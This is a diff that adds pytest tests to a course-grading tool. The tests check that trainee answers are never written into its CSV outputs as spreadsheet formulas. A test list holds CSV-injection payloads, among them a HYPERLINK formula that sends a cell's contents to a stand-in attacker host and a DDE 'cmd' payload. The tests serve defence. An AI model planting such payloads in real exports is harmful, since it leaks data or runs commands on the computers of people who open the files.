@@ -532,3 +532,57 @@ def test_a_failed_key_move_puts_the_earlier_hand_outs_back(small_course, tmp_pat
     monkeypatch.undo()
     assert {p.relative_to(root).as_posix(): p.read_bytes() for p in (root / "h").rglob("*") if p.is_file()} == before
     assert not [p.name for p in root.iterdir() if ".kaigai-" in p.name and not p.name.endswith("-lock")]
+
+
+# 14. a trainee's answer or question cell like =HYPERLINK(...) went verbatim into detail.csv, the gradebook and the
+# copy check, which the instructor opens in a spreadsheet (OWASP "CSV injection")
+
+INJECTIONS = ["=1+1", '=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+              "\t=1+1", "\r=1+1", " =1+1"]
+
+
+def formula_cells(files: list[Path]) -> list[str]:
+    """Cells of CSV files a spreadsheet would run as a formula (a plain number is not one)."""
+    import csv
+    import re
+
+    found = []
+    for path in files:
+        with open(path, encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                found += [f"{path.name}: {cell!r}" for cell in row if cell.lstrip(" ").startswith(
+                    ("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell)]
+    return found
+
+
+def test_trainee_text_is_never_written_as_a_spreadsheet_formula(course, tmp_path, capsys) -> None:
+    truth = truths(course["key"])[("s01", "effect")]
+    negative = f"{-truth!r}"  # a negative number stays a number: wrong (the sign), and readable as one
+    rows = [f'{tid},effect,"{text.replace(chr(34), chr(34) * 2)}",' for tid, text in
+            zip(["s01", "s02"] * 4, INJECTIONS, strict=True)]
+    rows += ['"=HYPERLINK(""x"")",effect,0.1,', 's01,"@cmd",0.1,', f"s01,effect,{negative},", f"s02,effect,{truth!r},"]
+    code, detail, _ = grade(course["key"], rows, tmp_path / "g", capsys)
+    assert code == 0
+    assert formula_cells(sorted((tmp_path / "g").glob("*.csv"))) == []
+    # answers are read trimmed (a leading tab or space goes); what is left of each gets the apostrophe
+    assert detail["answer"].tolist()[:len(INJECTIONS)] == [f"'{text.strip()}" for text in INJECTIONS]
+    assert negative in detail["answer"].tolist()  # as written, no apostrophe
+    assert pd.read_csv(tmp_path / "g" / "detail.csv")["truth"].dtype == float
+    assert (tmp_path / "g" / "copy_check.csv").read_text(encoding="utf-8").count(repr(truth)) == 1  # s02 copied s01
+
+
+def test_exercises_grade_writes_no_spreadsheet_formula(tmp_path, capsys) -> None:
+    write(tmp_path, "effect.yml", EFFECT.replace("n_firms: 300", "n_firms: 150"))
+    write(tmp_path, "roster.csv", "trainee_id\ns01\ns02\n")
+    assert main(["exercises", "make", "--exercise", str(tmp_path / "effect.yml"), "--roster",
+                 str(tmp_path / "roster.csv"), "--out", str(tmp_path / "class"), "--key",
+                 str(tmp_path / "key.csv")]) == 0
+    answers = "trainee_id,answer\n" + "".join(f'{t},"{a.replace(chr(34), chr(34) * 2)}"\n' for t, a in
+                                              zip(["s01", "s02", "=x", "-1+1"], INJECTIONS, strict=False))
+    (tmp_path / "answers.csv").write_text(answers, encoding="utf-8")
+    assert main(["exercises", "grade", "--key", str(tmp_path / "key.csv"), "--answers", str(tmp_path / "answers.csv"),
+                 "--out", str(tmp_path / "graded.csv")]) == 0
+    capsys.readouterr()
+    assert formula_cells([tmp_path / "graded.csv"]) == []
+    graded = pd.read_csv(tmp_path / "graded.csv", dtype=str, keep_default_na=False)
+    assert graded["answer"].tolist()[:4] == [f"'{text}" for text in INJECTIONS[:4]]
